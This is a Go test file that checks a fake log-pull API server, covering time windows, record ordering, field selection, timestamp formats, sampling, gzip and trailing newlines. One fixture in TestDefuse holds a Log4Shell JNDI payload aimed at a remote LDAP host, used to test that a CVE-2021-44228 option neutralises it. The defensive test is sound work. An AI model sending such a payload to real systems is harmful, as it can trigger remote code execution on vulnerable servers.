package logpulltest_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/fabriziosalmi/rainlogs/plugins/source/logpull/logpulltest"
)

// TestWindowsTile reads an hour in windows of odd widths: together they hold
// each record exactly once, and every event is earlier than its window.
func TestWindowsTile(t *testing.T) {
	t.Parallel()
	b := setup(t, func(c *logpulltest.Config) { c.Shuffle = true })
	start, end := now.Add(-2*time.Hour), now.Add(-time.Hour)
	var got []string
	widths := []time.Duration{7 * time.Second, time.Minute, 13 * time.Minute, 61 * time.Second, time.Nanosecond, 59 * time.Second}
	for at, i := start, 0; at.Before(end); i++ {
		next := at.Add(widths[i%len(widths)])
		if next.After(end) {
			next = end
		}
		a := b.get(window(zoneA, at, next, "start", fmt.Sprint(at.UnixNano()), "end", fmt.Sprint(next.UnixNano())))
		if a.status != 200 {
			t.Fatalf("window %v: %d %s", at, a.status, a.body)
		}
		for _, line := range a.lines() {
			var rec struct{ EdgeStartTimestamp, EdgeEndTimestamp int64 }
			if err := json.Unmarshal([]byte(line), &rec); err != nil {
				t.Fatal(err)
			}
			if rec.EdgeEndTimestamp >= next.UnixNano() || rec.EdgeStartTimestamp > rec.EdgeEndTimestamp {
				t.Fatalf("record %s in the window from %v to %v", line, at, next)
			}
		}
		got = append(got, a.lines()...)
		at = next
	}
	want := b.truth(zoneA, start, end)
	if len(want) < 10_000 {
		t.Fatalf("only %d records", len(want))
	}
	if diff := cmp.Diff(want, sorted(got)); diff != "" {
		t.Errorf("tiles are not the whole (-want +got):\n%.2000s", diff)
	}
	if len(slices.Compact(want)) != len(want) {
		t.Error("two records are the same")
	}
}

// TestHalfOpenToTheNanosecond cuts at the very receive times of records.
func TestHalfOpenToTheNanosecond(t *testing.T) {
	t.Parallel()
	g := generator(t, logpulltest.GeneratorConfig{Seed: 6, RecordsPerDay: 100_000})
	var at []time.Time
	for received := range g.Window(now, now.Add(2*time.Minute), allFields) {
		at = append(at, received)
	}
	for i := 0; i+10 < len(at); i += 7 {
		if n := len(collect(g, at[i], at[i+10], allFields)); n != 10 {
			t.Fatalf("window from record %d to record %d holds %d", i, i+10, n)
		}
		if n := len(collect(g, at[i].Add(1), at[i+10].Add(1), allFields)); n != 10 {
			t.Fatalf("window from just after record %d to just after record %d holds %d", i, i+10, n)
		}
	}
}

// TestSameSetOtherOrder: two reads agree as sets; asked for, not in order.
func TestSameSetOtherOrder(t *testing.T) {
	t.Parallel()
	for _, shuffle := range []bool{false, true} {
		b := setup(t, func(c *logpulltest.Config) { c.Shuffle = shuffle })
		path := window(zoneA, now.Add(-time.Hour), now.Add(-50*time.Minute))
		one, two := b.get(path).lines(), b.get(path).lines()
		if slices.Equal(one, two) == shuffle {
			t.Errorf("shuffle %v: order equal %v", shuffle, !shuffle)
		}
		if diff := cmp.Diff(sorted(one), sorted(two)); diff != "" {
			t.Errorf("shuffle %v: sets differ:\n%.500s", shuffle, diff)
		}
	}
}

func TestFieldOrderAndTimestamps(t *testing.T) {
	t.Parallel()
	b := setup(t, nil)
	start, end := now.Add(-time.Hour), now.Add(-59*time.Minute)
	nanos := b.get(window(zoneA, start, end, "fields", "EdgeStartTimestamp,RayID")).lines()
	secs := b.get(window(zoneA, start, end, "fields", "RayID,EdgeStartTimestamp", "timestamps", "unix")).lines()
	texts := b.get(window(zoneA, start, end, "fields", "RayID,EdgeStartTimestamp", "timestamps", "rfc3339")).lines()
	if len(nanos) == 0 || len(nanos) != len(secs) || len(nanos) != len(texts) {
		t.Fatalf("%d, %d and %d lines", len(nanos), len(secs), len(texts))
	}
	for i := range nanos {
		var rec struct {
			EdgeStartTimestamp int64
			RayID              string
		}
		if err := json.Unmarshal([]byte(nanos[i]), &rec); err != nil {
			t.Fatal(err)
		}
		at := time.Unix(0, rec.EdgeStartTimestamp).UTC()
		for got, want := range map[string]string{
			nanos[i]: fmt.Sprintf(`{"EdgeStartTimestamp":%d,"RayID":%q}`, at.UnixNano(), rec.RayID),
			secs[i]:  fmt.Sprintf(`{"RayID":%q,"EdgeStartTimestamp":%d}`, rec.RayID, at.Unix()),
			texts[i]: fmt.Sprintf(`{"RayID":%q,"EdgeStartTimestamp":%q}`, rec.RayID, at.Format("2006-01-02T15:04:05Z")),
		} {
			if got != want {
				t.Fatalf("line %s, want %s", got, want)
			}
		}
	}
}

func TestDefaultFields(t *testing.T) {
	t.Parallel()
	b := setup(t, nil)
	line := b.get(window(zoneA, now.Add(-time.Hour), now.Add(-59*time.Minute))).lines()[0]
	var names []string
	dec := json.NewDecoder(strings.NewReader(line))
	for key := true; dec.More() || len(names) == 0; {
		tok, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		if _, brace := tok.(json.Delim); brace {
			continue
		}
		if key {
			names = append(names, tok.(string))
		}
		key = !key
	}
	want := []string{"ClientIP", "ClientRequestHost", "ClientRequestMethod", "ClientRequestURI", "EdgeEndTimestamp", "EdgeResponseBytes", "EdgeResponseStatus", "EdgeStartTimestamp", "RayID"}
	if diff := cmp.Diff(want, names); diff != "" {
		t.Errorf("default fields (-want +got):\n%s", diff)
	}
}

func TestCountAndSample(t *testing.T) {
	t.Parallel()
	b := setup(t, nil)
	start, end := now.Add(-time.Hour), now.Add(-50*time.Minute)
	all := map[string]bool{}
	for _, line := range b.truth(zoneA, start, end) {
		all[line] = true
	}
	read := func(params ...string) []string {
		lines := b.get(window(zoneA, start, end, params...)).lines()
		for _, line := range lines {
			if !all[line] {
				t.Fatalf("%v gave a line that is not of the window: %s", params, line)
			}
		}
		return lines
	}
	one, two := read("count", "50"), read("count", "50")
	if len(one) != 50 || len(two) != 50 || slices.Equal(one, two) {
		t.Errorf("count 50 gave %d and %d lines, the same %v", len(one), len(two), slices.Equal(one, two))
	}
	if got := read("count", "10000000"); len(got) != len(all) {
		t.Errorf("large count gave %d of %d", len(got), len(all))
	}
	one, two = read("sample", "0.1"), read("sample", "0.1")
	if lo, hi := len(all)/20, len(all)/5; len(one) < lo || len(one) > hi || slices.Equal(one, two) {
		t.Errorf("sample 0.1 gave %d of %d, the same again %v", len(one), len(all), slices.Equal(one, two))
	}
	if got := read("sample", "0.5", "count", "7"); len(got) != 7 {
		t.Errorf("sample with count 7 gave %d", len(got))
	}
}

func TestGzipAndFinalNewline(t *testing.T) {
	t.Parallel()
	for _, bare := range []bool{false, true} {
		b := setup(t, func(c *logpulltest.Config) { c.NoFinalNewline = bare })
		path := window(zoneA, now.Add(-time.Hour), now.Add(-55*time.Minute))
		auth := []string{"Authorization", "Bearer " + reader, "Accept-Encoding"}
		plain := b.get(path)
		packed := b.get(path, append(auth, "br, gzip;q=0.9")...)
		refused := b.get(path, append(auth, "gzip;q=0")...)
		text, err := gunzip(packed.body)
		if err != nil || packed.header.Get("Content-Encoding") != "gzip" || text != plain.body {
			t.Errorf("gzip: encoding %q, %v, same text %v", packed.header.Get("Content-Encoding"), err, text == plain.body)
		}
		if len(packed.body)*2 > len(plain.body) {
			t.Errorf("gzip: %d bytes of %d", len(packed.body), len(plain.body))
		}
		if refused.header.Get("Content-Encoding") != "" || refused.body != plain.body {
			t.Error("gzip;q=0 was answered with gzip")
		}
		if strings.HasSuffix(plain.body, "\n") == bare || strings.Contains(plain.body, "\n\n") {
			t.Errorf("bare %v: final line end %v", bare, !bare)
		}
	}
}

// TestDefuse: the argument that changes evidence does so, and only then.
func TestDefuse(t *testing.T) {
	t.Parallel()
	b := setup(t, func(c *logpulltest.Config) {
		l, err := logpulltest.FromRecords([]logpulltest.Record{{Received: now.Add(-time.Hour), Fields: map[string]json.RawMessage{
			"RayID": []byte(`"0000000000000001"`), "ClientRequestUserAgent": []byte(`"${jndi:ldap://203.0.113.9/a}"`)}}})
		if err != nil {
			t.Fatal(err)
		}
		c.Zones[0].Records = l
	})
	start, end := now.Add(-61*time.Minute), now.Add(-59*time.Minute)
	for value, want := range map[string]string{"false": "${jndi", "true": "x{jndi"} {
		got := b.get(window(zoneA, start, end, "fields", "ClientRequestUserAgent", "CVE-2021-44228", value))
		if !strings.Contains(got.body, want) {
			t.Errorf("CVE-2021-44228=%s: %s", value, got.body)
		}
	}
}
